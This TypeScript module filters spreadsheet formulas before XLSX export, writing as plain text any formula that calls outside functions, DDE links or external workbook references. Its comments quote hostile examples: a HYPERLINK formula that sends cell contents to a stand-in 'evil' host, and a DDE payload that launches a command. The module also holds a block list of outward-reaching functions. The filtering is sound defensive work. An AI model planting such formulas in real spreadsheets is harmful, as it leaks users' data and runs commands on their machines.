import type { CellValue } from '@tessera/contracts';

/** A cell the grid (Handsontable with HyperFormula) takes for a formula: text starting with '='. */
export const isFormulaText = (value: CellValue | undefined): value is string => typeof value === 'string' && value.length > 1 && value.startsWith('=');

let gridFunctions: Promise<ReadonlySet<string>> | undefined;

/**
 * The functions the grid evaluates: HyperFormula's (its default English names). Loaded on the
 * first XLSX export, not at start: HyperFormula (and exceljs) take seconds to import on a busy
 * machine, and most api processes never need them.
 */
export function loadGridFunctions(): Promise<ReadonlySet<string>> {
  gridFunctions ??= import('hyperformula').then(({ HyperFormula }) => new Set(HyperFormula.getRegisteredFunctionNames('enGB').map((name) => name.toUpperCase())));
  return gridFunctions;
}

/**
 * Functions that reach outside the file when a spreadsheet computes or clicks them: written
 * as text even when the grid knows them (HYPERLINK: a click sends what the formula joins to
 * the address, e.g. `=HYPERLINK("https://evil?"&B1)`). The others are listed because Excel
 * or LibreOffice has them, though the grid does not (they are refused as unknown anyway).
 */
const OUTSIDE_FUNCTIONS = new Set(['HYPERLINK', 'WEBSERVICE', 'FILTERXML', 'IMPORTXML', 'IMPORTDATA', 'IMPORTHTML', 'IMPORTFEED', 'IMPORTRANGE', 'IMAGE', 'RTD', 'CALL', 'REGISTER.ID', 'DDE', 'INFO', 'CELL']);

/**
 * Outside string literals: `|` (a DDE link, `=cmd|' /C calc'!A0`), `[` `]` (another workbook,
 * `[book.xlsx]Sheet!A1`), `!` and `'` (a sheet-qualified reference: this file has one
 * worksheet, so any other sheet is another file, `'C:\x\[a.xlsx]S'!A1`), `\` (a path) and
 * `@` (not in the grid's syntax).
 */
const OUTSIDE_SYNTAX = /[|[\]!'\\@]/;

const STRING_LITERAL = /"(?:[^"]|"")*"/g;
const FUNCTION_CALL = /([A-Za-z_][A-Za-z0-9_.]*)\s*\(/g;

/**
 * Whether a formula text (with its '=') may be written to a workbook as a formula: only what
 * the grid itself evaluates and what stays inside the file. Everything else (DDE, external
 * references, links, functions the grid does not know) is written as text.
 */
export function isInsideFormula(text: string, gridFunctions: ReadonlySet<string>): boolean {
  const code = text.slice(1).replace(STRING_LITERAL, '""');
  if (code.replace(/""/g, '').includes('"')) return false; // an unterminated string
  if (OUTSIDE_SYNTAX.test(code)) return false;
  for (const [, name] of code.matchAll(FUNCTION_CALL)) {
    const upper = name.toUpperCase();
    if (!gridFunctions.has(upper) || OUTSIDE_FUNCTIONS.has(upper)) return false;
  }
  return true;
}
